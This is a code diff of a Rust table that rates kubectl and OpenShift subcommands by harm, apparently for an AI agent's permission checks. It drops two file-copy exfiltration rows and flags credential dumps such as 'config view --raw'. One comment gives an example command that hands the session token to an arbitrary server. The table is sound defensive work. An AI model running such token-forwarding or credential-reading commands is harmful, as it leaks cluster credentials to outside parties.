@@ -656,12 +656,6 @@ pub const PROGRAMS: &[Program] = &[
                 reason: "starts a workload in the cluster with the developer's cluster credentials",
             },
             Sub {
-                words: &["cp"],
-                harm: Exfiltration,
-                level: Medium,
-                reason: "copies files between this machine and a cluster workload",
-            },
-            Sub {
                 words: &["config", "view", "--raw"],
                 harm: Credential,
                 level: High,
@@ -707,10 +701,10 @@ pub const PROGRAMS: &[Program] = &[
                 reason: "binds a Kubernetes service account to an Azure identity (its pods get that identity)",
             },
             // OpenShift's client (`oc`, in this row) adds a shell and a file
-            // copy into a workload (https://docs.openshift.com/container-platform/latest/cli_reference/openshift_cli/developer-cli-commands.html:
+            // copy into a workload (the copies, as kubectl cp, are
+            // `MACHINE_COPIES` rows: only an upload sends data away) (https://docs.openshift.com/container-platform/latest/cli_reference/openshift_cli/developer-cli-commands.html:
             // oc rsh, oc rsync).
             Sub { words: &["rsh"], harm: SelfEscalation, level: Medium, reason: "opens a shell inside a cluster workload" },
-            Sub { words: &["rsync"], harm: Exfiltration, level: Medium, reason: "copies files between this machine and a cluster workload" },
             // `oc login --token=...` asks too: the server is the agent's
             // choice, and `--token=$(oc whoami -t) --server=https://other`
             // hands the session's token to it (found in review, session 26,
